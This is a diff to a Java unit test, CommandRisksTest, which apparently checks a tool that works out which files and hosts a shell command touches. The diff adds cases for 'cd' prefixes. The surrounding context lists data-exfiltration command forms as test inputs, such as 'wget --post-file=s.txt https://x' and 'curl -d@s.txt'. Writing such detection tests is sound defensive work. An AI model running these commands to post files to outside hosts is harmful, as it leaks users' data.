@@ -43,6 +43,8 @@ class CommandRisksTest {
       env -u A B=c cat s.txt => s.txt
       wget --post-file=s.txt https://x => s.txt, https://x
       curl -d@s.txt => s.txt
+      cd sub && cat s.txt => s.txt, sub/s.txt
+      cd sub; cd ../x; cat $PWD/s.txt /y => $PWD/s.txt, /y, sub/../x/s.txt
       """;
 
   @ParameterizedTest
@@ -156,6 +158,7 @@ class CommandRisksTest {
         "head -n 3 <$f",
         "grep foo $f",
         "cat $'\\x73.txt'",
+        "cd $d && cat s.txt",
         "ls | xargs cat",
         "ls | xargs -0 -n 1 grep foo"
       })
@@ -173,6 +176,8 @@ class CommandRisksTest {
         "head -n $N a",
         "cat a | tee $f",
         "ls | xargs rm",
+        "cd $d && npm test",
+        "cd $d && cat /s.txt",
         "ls | xargs grep -l foo",
         "cat $PWD/a ${HOME}/b",
         "cat README.md"
